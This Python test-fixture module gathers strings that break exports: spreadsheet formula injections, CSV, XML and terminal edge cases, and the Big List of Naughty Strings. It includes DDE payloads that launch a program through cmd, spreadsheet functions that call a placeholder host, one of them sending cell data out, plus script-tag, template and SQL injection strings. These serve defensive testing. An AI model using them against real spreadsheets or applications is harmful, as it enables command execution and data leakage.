"""Strings that break programs, for every format: as values, headers and labels.

`blns.json` is the Big List of Naughty Strings, Copyright (c) 2015-2020 Max Woolf, under the MIT
licence in the same folder. The others are our own: formulas that spreadsheets run, and text that
is difficult for CSV, XML and terminals. None has NUL or lone surrogates, which PostgreSQL's text
cannot store.
"""

import json
from functools import cache
from pathlib import Path

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    'DDE ("cmd";"/C calc";"!A0")A0',
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    '=WEBSERVICE("http://example.invalid")',
    '=IMPORTXML("http://example.invalid","//a")',
    "{=1}",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1",
    "''=1",
    '"=1',
    '"=1"',
    ";=1",
    ",=1",
    "a,=1",
    "a;=1",
    "a;\t=1",
    "a,'=1",
    "a\n=1",
    "a\r\n@SUM(1)",
    "\t",
    "\ttab first",
    "'\ttab second",
    "|calc",
    "%0A=1",
    "-",
    "-5.00",
    "+49 30 1234567",
)
"""Text that a spreadsheet can read as a formula, also after splitting at another delimiter."""

AWKWARD = (
    "",
    " ",
    " leading and trailing ",
    'a "quoted" word',
    '"',
    '""',
    "comma, separated",
    "semi;colon",
    "two\nlines",
    "carriage\rreturn",
    "both\r\n",
    "\n",
    "\\",
    "\\.",
    "\\N",
    "\\n",
    "null",
    "NULL",
    "N/A",
    "nan",
    "true",
    "1",
    "001",
    "1e5",
    "2-3",
    "1,234.50",
    "12345678901234567890",
    "2026-02-28",
    "\ufeff",
    "\ufeffmark",
    "\ufeff\ufeff two",
    "#",
    "# comment",
    "sep=;",
    "ID",
    "PAR1",
    "{}",
    '{"a": 1}',
    "[1, 2]",
    "_x0041_",
    "_x000D_",
    "\x01\x02\x1b[31mred\x7f",
    "\x0b\x0c\x1f",
    "\u0085\u2028\u2029",
    "\ufffe\uffff\ufffd",
    "e\u0301 \u00e9",
    "\u202eright to left\u202c",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\u6771\u4eac \u0e1b\u0e23\u0e30\u0e40\u0e17\u0e28\u0e44\u0e17\u0e22",
    "\U0001f9d1\u200d\U0001f680\U0001f3f4\U000e0067\U000e0062",
    "<b>&amp;</b><script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% raw %}",
    "' or 1=1; --",
    "x" * 40_000,
)
"""Text that is difficult for quoting, encoding or type detection; the last one is long."""


@cache
def hostile_strings() -> tuple[str, ...]:
    """All hostile strings, each once: about 600."""
    naughty = json.loads((Path(__file__).parent / "blns.json").read_text(encoding="utf-8"))
    return tuple(dict.fromkeys((*FORMULAS, *AWKWARD, *naughty)))
